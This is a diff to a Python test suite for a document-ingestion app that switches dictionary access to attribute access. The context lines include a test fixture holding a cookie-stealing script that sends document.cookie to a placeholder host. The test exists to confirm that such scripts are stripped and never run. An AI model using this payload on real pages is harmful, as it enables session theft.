@@ -54,7 +54,7 @@ def test_hostile_batch_one_message_each_rest_indexed_store_clean(fake_app: App, 
     assert "Permission denied" in reasons["secret.txt"]
     assert "symlink loop" in reasons["loop"]
     assert len(report.failures) == 6
-    sources = {doc["source"] for doc in fake_app.store.documents()}
+    sources = {doc.source for doc in fake_app.store.documents()}
     assert {"really a pdf.docx", "mixed.txt", "nested.html", "龙岗区 2019 总结.txt"} <= sources
     result = check_store(fake_app, repair=False)
     assert result["ok"] and not result["problems"]
@@ -85,7 +85,7 @@ def test_html_scripts_are_dropped_never_run(fake_app: App, tmp_path: Path) -> No
                     "<script>fetch('http://example.invalid/'+document.cookie)</script></body></html>", encoding="utf-8")
     ingest_paths(fake_app, [page])
     [doc] = fake_app.store.documents()
-    text = fake_app.store.document_text(doc["doc_id"]) or ""
+    text = fake_app.store.document_text(doc.doc_id) or ""
     assert "2346宗" in text and "恶意" not in text and "fetch" not in text and "alert" not in text
 
 
